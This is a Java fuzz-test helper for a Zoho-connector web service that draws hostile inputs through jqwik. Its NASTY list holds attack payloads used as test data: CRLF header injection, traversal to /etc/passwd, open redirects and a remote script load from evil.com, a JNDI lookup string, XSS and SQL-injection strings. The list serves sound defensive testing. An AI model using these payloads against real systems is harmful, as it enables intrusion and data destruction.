package io.zohoconnect.fuzz;

import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.RandomGenerator;
import net.jqwik.api.Shrinkable;
import net.jqwik.api.sessions.JqwikSession;

/**
 * Hostile inputs shared by the fuzz and property tests, and the way the Spring-backed HTTP fuzz
 * tests draw them: jqwik's arbitraries (edge cases first, then random values from a seeded
 * {@link Random}), outside jqwik's engine, since jqwik does not run Spring's JUnit 5 extension.
 */
public final class Fuzz {

    /** The seed of this JVM's random draws: {@code -Dzoho.fuzz.seed=…} replays a failure. */
    public static final long SEED = Long.getLong("zoho.fuzz.seed", new Random().nextLong());

    /** What a token looks like: Zoho tokens, codes and client ids are {@code 1000.} + hex. */
    public static final Pattern TOKEN_LIKE = Pattern.compile("1000\\.[0-9a-fA-F]{8,}");

    /** Values that have broken web services before: markup, traversal, open redirects, encodings, controls. */
    public static final List<String> NASTY = List.of(
            "", " ", "\t", "\r\n", "a\r\nSet-Cookie: pwned=1", "\u0000", "%00", "a%00b", "%0d%0aX-Injected:%201",
            "%", "%%", "%zz", "%2", "%C0%AE", "%FF%FE", "+", "&", "=", "?", "#", ";", "\\", "'", "\"", "`",
            "..", "../..", "/..", "/../../etc/passwd", "..%2f..%2f", "%2e%2e%2f", "//evil.com", "//evil.com/x",
            "/\\evil.com", "\\\\evil.com", "https://evil.com", "https://evil.com/oauth/callback",
            "https://app.example.com.evil.com/", "https://app.example.com@evil.com/", "http://localhost@evil.com",
            "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "data:text/html,<script>x</script>",
            "<script>alert(1)</script>", "<SCRIPT SRC=//evil.com/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
            "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "</textarea><script>x</script>",
            "${jndi:ldap://evil.com/a}", "#{7*7}", "{{7*7}}", "%s%s%s%n", "' OR '1'='1", "'; DROP TABLE x; --",
            "null", "undefined", "NaN", "-1", "0", "9999999999999999999999", "{}", "[]", "true",
            "\u202egnp.exe", "\uFEFFeu", "\u00a0eu\u00a0", "ü", "日本語", "😀", "\uD800", "\u0130", "\u212A",
            "eu", "EU", " eu ", "us", "cn", "ca", "uk", "mars", "production", "SANDBOX", "developer", "staging",
            "ZohoCRM.modules.ALL", "ZohoCRM.modules.ALL,ZohoCRM.settings.ALL", "ZohoCRM.modules.ALL<x>",
            "access_denied", "1000.0123456789abcdef0123456789abcdef", "acme", "acme-eu", "a.b_c-d",
            "a".repeat(64), "a".repeat(65), "x".repeat(300), "y".repeat(5000));

    private Fuzz() {
    }

    /** Any text: the nasty list, printable ASCII, any unicode, and two nasty pieces glued together. */
    public static Arbitrary<String> text() {
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(4, Arbitraries.of(NASTY)),
                net.jqwik.api.Tuple.of(3, Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(80)),
                net.jqwik.api.Tuple.of(2, Arbitraries.strings().all().ofMaxLength(120)),
                net.jqwik.api.Tuple.of(2, Arbitraries.of(NASTY).list().ofMinSize(2).ofMaxSize(3)
                        .map(parts -> String.join("", parts))));
    }

    /** {@code valid} most of the time, else hostile text, else absent (null). */
    public static Arbitrary<String> mostly(Arbitrary<String> valid) {
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(5, valid),
                net.jqwik.api.Tuple.of(4, text()),
                net.jqwik.api.Tuple.of(1, Arbitraries.just(null)));
    }

    /**
     * {@code tries} values of {@code arbitrary}: its edge cases first (at most a quarter of them),
     * then random values from {@code random}, with edge cases mixed in as jqwik does.
     */
    public static <T> List<T> sample(Arbitrary<T> arbitrary, int tries, Random random) {
        // outside a property, jqwik needs a session for its generator memoisation
        boolean ownSession = !JqwikSession.isActive();
        if (ownSession) {
            JqwikSession.start();
        }
        try {
            List<T> out = new ArrayList<>(tries);
            Iterator<Shrinkable<T>> edges = arbitrary.edgeCases().iterator();
            while (edges.hasNext() && out.size() < tries / 4) {
                out.add(edges.next().value());
            }
            RandomGenerator<T> generator = arbitrary.generatorWithEmbeddedEdgeCases(100);
            while (out.size() < tries) {
                out.add(generator.next(random).value());
            }
            return out;
        } finally {
            if (ownSession) {
                JqwikSession.finish();
            }
        }
    }

    /** For assertion messages: the input, quoted and escaped so control characters show. */
    public static String show(Object value) {
        if (value == null) {
            return "null";
        }
        StringBuilder out = new StringBuilder("\"");
        String text = value.toString();
        for (int i = 0; i < Math.min(text.length(), 300); i++) {
            char c = text.charAt(i);
            out.append(c < 0x20 || c == 0x7f || (c >= 0xd800 && c <= 0xdfff) ? String.format("\\u%04x", (int) c) : c);
        }
        return out.append(text.length() > 300 ? "…\" (" + text.length() + " chars)" : "\"").toString();
    }
}
